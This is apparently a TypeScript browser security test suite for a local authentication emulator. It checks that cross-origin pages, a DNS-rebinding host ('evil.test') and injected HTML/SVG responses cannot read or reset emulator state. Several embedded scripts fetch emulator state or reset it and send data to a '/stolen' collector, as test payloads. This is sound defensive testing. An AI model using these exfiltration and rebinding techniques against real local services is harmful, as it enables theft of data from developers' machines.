import type { Running } from "@gotrue-effect/emulator/promise"
import { start } from "@gotrue-effect/emulator/promise"
import { readFileSync } from "node:fs"
import type { Server } from "node:http"
import { createServer } from "node:http"
import type { Browser, Page } from "playwright-core"
import { chromium } from "playwright-core"
import { afterAll, beforeAll, describe, expect, it } from "vitest"

// A page that its developer opens beside the emulator, in a real browser: it may change and read nothing of it.

const attackPage = readFileSync(new URL("attack.html", import.meta.url), "utf8")
const executablePath = process.env["CHROMIUM"]

const flags = [
  "--no-sandbox",
  "--disable-gpu",
  "--disable-quic",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
  "--disable-popup-blocking",
  // Newer browsers ask before a page may speak to this machine; what holds here must hold in all others, too.
  "--disable-features=LocalNetworkAccessChecks",
  // The name of an attacker that leads to this machine.
  "--host-resolver-rules=MAP evil.test 127.0.0.1"
]

let browser: Browser
let elsewhere: Server
let port = 0
/** What pages have sent to their own server. */
const stolen: Array<string> = []

beforeAll(async () => {
  if (executablePath === undefined) throw new Error("CHROMIUM names no browser: run packages/tooling/src/browser.mjs")
  browser = await chromium.launch({ executablePath, args: flags })
  elsewhere = createServer((request, response) => {
    if (request.url?.startsWith("/stolen") === true) stolen.push(request.url)
    response.writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" })
    response.end(request.url?.startsWith("/script") === true ? script(port) : attackPage)
  })
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve))
  const address = elsewhere.address()
  port = typeof address === "object" && address !== null ? address.port : 0
})

afterAll(async () => {
  await browser.close()
  elsewhere.close()
})

/** A page that takes what it can of its own origin, and brings it home. */
const script = (home: number) =>
  `<title>ran</title><script>fetch("http://127.0.0.1:${home}/stolen/ran")
   fetch("/emulator/state").then((r) => r.text()).then((t) => fetch("http://127.0.0.1:${home}/stolen/" + t.length))
   fetch("/emulator/reset", { method: "POST", headers: { "content-type": "application/json" } })</script>`

/** An emulator that knows something. */
const startFull = async (options: { readonly controlOrigins?: ReadonlyArray<string> } = {}): Promise<Running> => {
  const auth = await start({ seed: 7, ...options })
  const signedUp = await fetch(`${auth.url}/signup`, {
    method: "POST",
    body: JSON.stringify({ email: "ann@example.com", password: "correct horse" })
  })
  expect(signedUp.status).toBe(200)
  await auth.fail({ kind: "answer", status: 418, path: "/teapot", times: "always" })
  return auth
}

/** All that the control routes could have changed. */
const everythingOf = async (auth: Running) => ({
  state: await auth.exportState(),
  faults: await auth.faults(),
  // The browser asks for an icon, too.
  journal: (await auth.journal())[0],
  late: Math.abs((await auth.clock.now()).getTime() - Date.now()) > 3_600_000
})

const isTexts = (value: unknown): value is ReadonlyArray<string> =>
  Array.isArray(value) && value.every((each) => typeof each === "string")

/** Lets a page do what it can, and gives what it has read, and the statuses of what came from the emulator. */
const attack = async (page: Page, url: string) => {
  const statuses = new Map<number, number>()
  page.context().on("response", (response) => {
    if (!response.url().includes("/emulator/")) return
    statuses.set(response.status(), (statuses.get(response.status()) ?? 0) + 1)
  })
  await page.goto(url)
  const loot: unknown = await page.evaluate("attacks()")
  return { loot: isTexts(loot) ? loot : [], statuses }
}

const secrets = /ann@example|correct horse|teapot|"tables"|confirmation_token|\{"now"/

describe("a page of another origin changes nothing and reads nothing", () => {
  const places: ReadonlyArray<readonly [name: string, url: (auth: Running) => string]> = [
    ["of another port", (auth) => `http://127.0.0.1:${port}/?target=${auth.origin}`],
    ["of another name", (auth) => `http://localhost:${port}/?target=${auth.origin}`],
    ["of a name of its own", (auth) => `http://evil.test:${port}/?target=${auth.origin}`],
    [
      "that calls it localhost",
      (auth) => `http://127.0.0.1:${port}/?target=${auth.origin.replace("127.0.0.1", "localhost")}`
    ]
  ]
  for (const [name, urlOf] of places) {
    it(name, async () => {
      await using auth = await startFull()
      const before = await everythingOf(auth)
      const context = await browser.newContext()
      const { loot, statuses } = await attack(await context.newPage(), urlOf(auth))
      await context.close()
      expect(loot.length).toBeGreaterThan(150)
      expect(loot.filter((each) => secrets.test(each))).toEqual([])
      expect(await everythingOf(auth)).toEqual(before)
      // The requests did arrive.
      expect([...statuses.keys()]).toEqual([403])
      expect(statuses.get(403)).toBeGreaterThan(40)
    })
  }

  it("whose name has begun to lead to the emulator (DNS rebinding)", async () => {
    await using auth = await startFull()
    const before = await everythingOf(auth)
    const context = await browser.newContext()
    const page = await context.newPage()
    const own = auth.origin.replace("127.0.0.1", "evil.test")
    // It came from its own server, before its name led here.
    await page.route(`${own}/attack`, (route) => route.fulfill({ contentType: "text/html", body: attackPage }))
    const { loot, statuses } = await attack(page, `${own}/attack`)
    await context.close()
    expect(loot.filter((each) => each.includes("belong to the owner")).length).toBeGreaterThan(50)
    expect(loot.filter((each) => secrets.test(each))).toEqual([])
    expect(await everythingOf(auth)).toEqual(before)
    expect([...statuses.keys()]).toEqual([403])
  })

  it("that sends its visitor there", async () => {
    await using auth = await startFull()
    const page = await browser.newPage()
    await page.goto(`http://127.0.0.1:${port}/`)
    const [response] = await Promise.all([
      page.waitForResponse((response) => response.url().includes("/emulator/")),
      page.evaluate(`location.href = "${auth.origin}/emulator/state"`)
    ])
    expect(response.status()).toBe(403)
    await page.close()
  })
})

describe("a page of the owner", () => {
  it("can be let in, and then only its scripts", async () => {
    const site = `http://localhost:${port}`
    await using auth = await startFull({ controlOrigins: [site] })
    const page = await browser.newPage()
    await page.goto(`${site}/?target=${auth.origin}`)
    const read: unknown = await page.evaluate(`fetch("${auth.origin}/emulator/outbox").then((r) => r.text())`)
    expect(read).toContain("ann@example.com")
    const reset: unknown = await page.evaluate(
      `fetch("${auth.origin}/emulator/seed", { method: "PUT", headers: { "content-type": "application/json" },` +
        ` body: '{"seed":1}' }).then((r) => r.status)`
    )
    expect(reset).toBe(204)
    const simple: unknown = await page.evaluate(
      `fetch("${auth.origin}/emulator/faults", { method: "POST", body: '{"kind":"refused"}' }).then((r) => r.status)`
    )
    expect(simple).toBe(403)
    await page.close()
  })

  it("is the address bar too", async () => {
    await using auth = await startFull()
    const page = await browser.newPage()
    const response = await page.goto(`${auth.origin}/emulator/outbox`)
    expect(response?.status()).toBe(200)
    await page.close()
  })
})

describe("a planned response", () => {
  it("is no page of the emulator's origin that scripts", async () => {
    await using auth = await startFull()
    const before = await everythingOf(auth)
    const page = await browser.newPage()
    for (const type of ["text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", undefined]) {
      const xml = `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://127.0.0.1:${port}/stolen/svg")</script></svg>`
      const body = type === "text/html" || type === undefined ? script(port) : xml
      const headers = type === undefined ? {} : { "content-type": type }
      await auth.fail({ kind: "answer", status: 200, path: "/page", headers, body })
      await page.goto(`${auth.origin}/page`, { waitUntil: "networkidle" })
    }
    expect(stolen).toEqual([])
    const after = await everythingOf(auth)
    expect(after.state).toBe(before.state)
    // The same page where it may script, to see that it would.
    await page.goto(`http://127.0.0.1:${port}/script`, { waitUntil: "networkidle" })
    expect(stolen).toContain("/stolen/ran")
    await page.close()
  })
})
